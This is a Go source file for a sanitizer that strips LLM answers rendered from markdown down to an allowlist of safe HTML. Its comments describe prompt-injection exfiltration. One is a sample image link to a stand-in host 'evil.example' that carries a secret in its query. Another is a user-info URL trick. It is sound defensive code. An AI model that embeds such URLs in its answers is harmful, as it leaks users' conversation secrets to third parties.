package sanitize

import (
	"bytes"
	"errors"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"unicode/utf8"

	"github.com/microcosm-cc/bluemonday"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
)

// HTMLOptions configures an [HTMLPolicy]. The zero value is the default
// policy: links to any http, https or mailto address, no images, code-block
// language classes kept, links open in the same tab.
type HTMLOptions struct {
	// AllowedLinkHosts, when not empty, is the list of hosts that links and
	// images may point to; a link to any other host loses its href (its
	// text is kept) and an image from any other host is removed. An entry
	// is a host name ("docs.example.com", matched exactly and without
	// regard to case) or "*." followed by a domain ("*.example.com",
	// matching every subdomain but not the domain itself). Host names must
	// be ASCII (use the punycode form of an international name); no scheme,
	// port, path or user. With a list, mailto links are kept only when
	// every recipient's domain is listed and the link has no query
	// (cc, bcc, body).
	//
	// Default: empty, links to any host are kept.
	//
	// Background: a link is a way out of the page for whatever the model
	// put in its URL. Links need a click, so the default keeps them, but an
	// answer that may carry secrets of the conversation should name its
	// destinations.
	AllowedLinkHosts []string

	// AllowImages keeps <img> elements whose src is an http or https URL on
	// one of AllowedLinkHosts, which must then not be empty
	// ([NewHTMLPolicy] returns an error otherwise). Only src, alt and title
	// are kept.
	//
	// Default: false, every image is removed.
	//
	// Background: a browser fetches an image without a click, so an image
	// URL chosen by the model (for example ![x](https://evil.example/?q=
	// secret), planted through prompt injection) sends data out of the page
	// as soon as the answer is displayed. This is the classic exfiltration
	// channel of LLM chat interfaces.
	AllowImages bool

	// AllowClasses is the pattern a class attribute on <code> must match
	// as a whole (it is anchored for you) to be kept. Class attributes are
	// allowed on <code> only.
	//
	// Default (nil): code-block language classes as goldmark and most
	// markdown renderers write them, "language-" followed by 1 to 32 of
	// A-Z a-z 0-9 _ + # . - (language-go, language-c++).
	//
	// Background: a class chosen by the model can take the look of the
	// page's own elements (a fake login banner); widen this only to classes
	// your style sheet gives no meaning outside code blocks.
	AllowClasses *regexp.Regexp

	// TargetBlank adds target="_blank" to links, so that they open in a new
	// tab. rel="nofollow noopener noreferrer" is forced on every link in any
	// case, so the opened page gets no handle on the opener.
	//
	// Default: false.
	TargetBlank bool
}

// HTMLPolicy sanitizes HTML meant to be displayed: an LLM answer rendered
// from markdown, or HTML the model wrote itself. It is an allowlist built on
// [bluemonday]: every element and attribute not listed below is removed.
//
// Kept elements: p, br, hr, h1–h6, strong, em, b, i, del, s, sup, sub, code,
// pre, blockquote, ul, ol (start), li, table, thead, tbody, tr, th and td
// (align), details, summary, a (href) and, with [HTMLOptions.AllowImages],
// img (src, alt, title). <code> keeps a class matching
// [HTMLOptions.AllowClasses].
//
// Refused: script, style, iframe, object, embed, form and input elements,
// svg and math, every event-handler (on*) attribute, style and id
// attributes, and every URL that is not absolute http, https or mailto:
// javascript:, vbscript:, data:, file: URLs in any encoding, and relative
// URLs ("/path", "#anchor", "//host"), since the origin the HTML is shown
// on is unknown to the policy. URLs with a user name or password
// ("https://docs.example.com@evil.example/") are refused too. An element
// that loses its URL keeps its content: <a href="javascript:x()">text</a>
// becomes "text". The text of script, style, iframe, object, noscript and
// title elements is removed with them; other removed elements keep their
// text, escaped.
//
// Every link gets rel="nofollow noopener noreferrer", whatever it had.
//
//	<p onclick="x()">Hi <a href="https://go.dev">Go</a><script>x()</script></p>
//
// becomes
//
//	<p>Hi <a href="https://go.dev" rel="nofollow noopener noreferrer">Go</a></p>
//
// An HTMLPolicy is immutable once built by [NewHTMLPolicy] and safe for
// concurrent use; build it once. The zero value is not usable. Most callers
// want [HTMLPolicy.Markdown], or the default-policy shorthands [HTML] and
// [MarkdownToHTML].
type HTMLPolicy struct {
	policy *bluemonday.Policy
	md     goldmark.Markdown
}

// NewHTMLPolicy builds an [HTMLPolicy] from opts. It returns an error, naming
// every bad entry at once, when an entry of AllowedLinkHosts is not a host
// name or "*." pattern, or when AllowImages is set without AllowedLinkHosts.
// It keeps no reference to opts.
func NewHTMLPolicy(opts HTMLOptions) (*HTMLPolicy, error) {
	var errs []error
	hosts, err := parseHosts(opts.AllowedLinkHosts)
	if err != nil {
		errs = append(errs, err)
	}
	if opts.AllowImages && len(opts.AllowedLinkHosts) == 0 {
		errs = append(errs, errors.New("sanitize: AllowImages needs AllowedLinkHosts: images are fetched without a click"))
	}
	class := defaultClassPattern
	if opts.AllowClasses != nil {
		class, err = regexp.Compile(`^(?:` + opts.AllowClasses.String() + `)$`)
		if err != nil { // cannot happen: the pattern compiled once already
			errs = append(errs, fmt.Errorf("sanitize: AllowClasses: %w", err))
		}
	}
	if len(errs) > 0 {
		return nil, errors.Join(errs...)
	}
	return buildHTMLPolicy(hosts, opts.AllowImages, class, opts.TargetBlank), nil
}

var (
	defaultClassPattern = regexp.MustCompile(`^language-[A-Za-z0-9_+#.-]{1,32}$`)
	olStartPattern      = regexp.MustCompile(`^[0-9]{1,9}$`)
	alignPattern        = regexp.MustCompile(`^(?:left|right|center)$`)
	httpURLPattern      = regexp.MustCompile(`^(?i)\s*https?:`)
	hostPattern         = regexp.MustCompile(`^(?:\*\.)?[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)*$`)

	// relWritten are the rel attributes bluemonday writes (without and
	// with target="_blank"), which Sanitize replaces with relForced. The
	// literals, with their raw quotes, can only be attributes of the
	// output: bluemonday escapes quotes in text and attribute values, and
	// input rel attributes are not allowed through.
	relWritten = [...]string{`rel="nofollow noreferrer"`, `rel="nofollow noreferrer noopener"`}
)

const relForced = `rel="nofollow noopener noreferrer"`

// hostSet is a parsed AllowedLinkHosts: exact names and "*." suffixes
// (stored with their leading dot).
type hostSet struct {
	exact    map[string]bool
	suffixes []string
}

func parseHosts(list []string) (*hostSet, error) {
	if len(list) == 0 {
		return nil, nil
	}
	hs := &hostSet{exact: make(map[string]bool, len(list))}
	var errs []error
	for _, h := range list {
		n := strings.TrimSuffix(strings.ToLower(strings.TrimSpace(h)), ".")
		if !hostPattern.MatchString(n) {
			errs = append(errs, fmt.Errorf("sanitize: AllowedLinkHosts: %q is not a host name or *.domain pattern", h))
			continue
		}
		if rest, ok := strings.CutPrefix(n, "*"); ok {
			hs.suffixes = append(hs.suffixes, rest)
		} else {
			hs.exact[n] = true
		}
	}
	return hs, errors.Join(errs...)
}

func (hs *hostSet) allows(host string) bool {
	host = strings.TrimSuffix(strings.ToLower(host), ".")
	if host == "" {
		return false
	}
	if hs == nil {
		return true
	}
	if hs.exact[host] {
		return true
	}
	for _, s := range hs.suffixes {
		if len(host) > len(s) && strings.HasSuffix(host, s) {
			return true
		}
	}
	return false
}

// allowHTTP is the URL policy for http and https: absolute, with a host,
// without user info, and on an allowed host.
func (hs *hostSet) allowHTTP(u *url.URL) bool {
	return u.Opaque == "" && u.User == nil && hs.allows(u.Hostname())
}

// allowMailto is the URL policy for mailto. Without a host list any
// address is kept; with one, every recipient's domain must be listed and
// the link must carry no query (cc, bcc, body could add recipients or
// prefill the message).
func (hs *hostSet) allowMailto(u *url.URL) bool {
	if u.Opaque == "" || u.User != nil || u.Host != "" {
		return false
	}
	if hs == nil {
		return true
	}
	if u.RawQuery != "" || u.ForceQuery {
		return false
	}
	to, err := url.PathUnescape(u.Opaque)
	if err != nil {
		return false
	}
	for addr := range strings.SplitSeq(to, ",") {
		at := strings.LastIndexByte(addr, '@')
		if at < 0 || !hs.allows(strings.TrimSpace(addr[at+1:])) {
			return false
		}
	}
	return true
}

// buildHTMLPolicy cannot fail: its inputs are validated.
func buildHTMLPolicy(hosts *hostSet, images bool, class *regexp.Regexp, targetBlank bool) *HTMLPolicy {
	p := bluemonday.NewPolicy()
	p.AllowElements(
		"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
		"strong", "em", "b", "i", "del", "s", "sup", "sub",
		"code", "pre", "blockquote", "ul", "ol", "li",
		"table", "thead", "tbody", "tr", "th", "td",
		"details", "summary",
	)
	p.AllowAttrs("start").Matching(olStartPattern).OnElements("ol")
	p.AllowAttrs("align").Matching(alignPattern).OnElements("th", "td")
	p.AllowAttrs("class").Matching(class).OnElements("code")
	p.AllowAttrs("href").OnElements("a")
	if images {
		p.AllowAttrs("src").Matching(httpURLPattern).OnElements("img")
		p.AllowAttrs("alt", "title").OnElements("img")
	}
	// Only absolute URLs with these schemes; AllowRelativeURLs stays off.
	p.RequireParseableURLs(true)
	p.AllowURLSchemeWithCustomPolicy("http", hosts.allowHTTP)
	p.AllowURLSchemeWithCustomPolicy("https", hosts.allowHTTP)
	p.AllowURLSchemeWithCustomPolicy("mailto", hosts.allowMailto)
	p.RequireNoFollowOnLinks(true)
	p.RequireNoReferrerOnLinks(true)
	p.AddTargetBlankToFullyQualifiedLinks(targetBlank)

	md := goldmark.New(goldmark.WithExtensions(
		extension.NewTable(extension.WithTableCellAlignMethod(extension.TableCellAlignAttribute)),
		extension.Strikethrough,
		extension.Linkify,
	))
	return &HTMLPolicy{policy: p, md: md}
}

// Sanitize returns html with everything the policy does not allow removed
// (see [HTMLPolicy]). The result is an HTML fragment safe to insert into a
// page as markup, in element content (not inside an attribute, a script or
// a style). Invalid UTF-8 in html is replaced with U+FFFD.
func (p *HTMLPolicy) Sanitize(html string) string {
	if !utf8.ValidString(html) {
		html = strings.ToValidUTF8(html, "\uFFFD")
	}
	out := p.policy.Sanitize(html)
	for _, rel := range relWritten {
		if strings.Contains(out, rel) {
			out = strings.ReplaceAll(out, rel, relForced)
		}
	}
	return out
}

// Markdown renders md (CommonMark with GitHub tables, strikethrough and
// bare-URL links) to HTML and returns it sanitized by the policy. Raw HTML
// in md is not rendered: goldmark replaces it with a comment, which the
// policy then removes; "<b>" written in prose shows as nothing, written in
// code spans and blocks it shows as text. Task-list checkboxes are not
// rendered (they would be input elements).
//
// Markdown refuses md longer than [MaxMarkdownBytes] with
// [ErrMarkdownTooLarge]: goldmark's time grows faster than linearly on some
// inputs (about 1 s for 32 KB of unclosed "[a](", 6 s for 50,000 nested
// ">"), which a prompt injection can make a model write. Sanitize such a
// text with [HTMLPolicy.Sanitize] as plain text, or split it.
func (p *HTMLPolicy) Markdown(md string) (string, error) {
	if len(md) > MaxMarkdownBytes {
		return "", fmt.Errorf("%w: %d bytes (limit %d)", ErrMarkdownTooLarge, len(md), MaxMarkdownBytes)
	}
	if !utf8.ValidString(md) {
		md = strings.ToValidUTF8(md, "\uFFFD")
	}
	var buf bytes.Buffer
	buf.Grow(len(md) + len(md)/4)
	if err := p.md.Convert([]byte(md), &buf); err != nil {
		return "", fmt.Errorf("sanitize: rendering markdown: %w", err)
	}
	return p.Sanitize(buf.String()), nil
}

// MaxMarkdownBytes is the largest markdown text [HTMLPolicy.Markdown]
// renders: 24 KiB, about 6 000 tokens of answer, where goldmark's worst
// case stays under a second.
const MaxMarkdownBytes = 24 << 10

// ErrMarkdownTooLarge is returned by [HTMLPolicy.Markdown] for a text over
// [MaxMarkdownBytes].
var ErrMarkdownTooLarge = errors.New("sanitize: markdown too large to render")

var defaultHTMLPolicy = sync.OnceValue(func() *HTMLPolicy {
	return buildHTMLPolicy(nil, false, defaultClassPattern, false)
})

// HTML sanitizes s with the default policy, NewHTMLPolicy(HTMLOptions{}):
// links to any http, https or mailto address, no images. See [HTMLPolicy]
// for what is kept and refused.
func HTML(s string) string { return defaultHTMLPolicy().Sanitize(s) }

// MarkdownToHTML renders md to sanitized HTML with the default policy,
// NewHTMLPolicy(HTMLOptions{}). See [HTMLPolicy.Markdown].
func MarkdownToHTML(md string) (string, error) { return defaultHTMLPolicy().Markdown(md) }
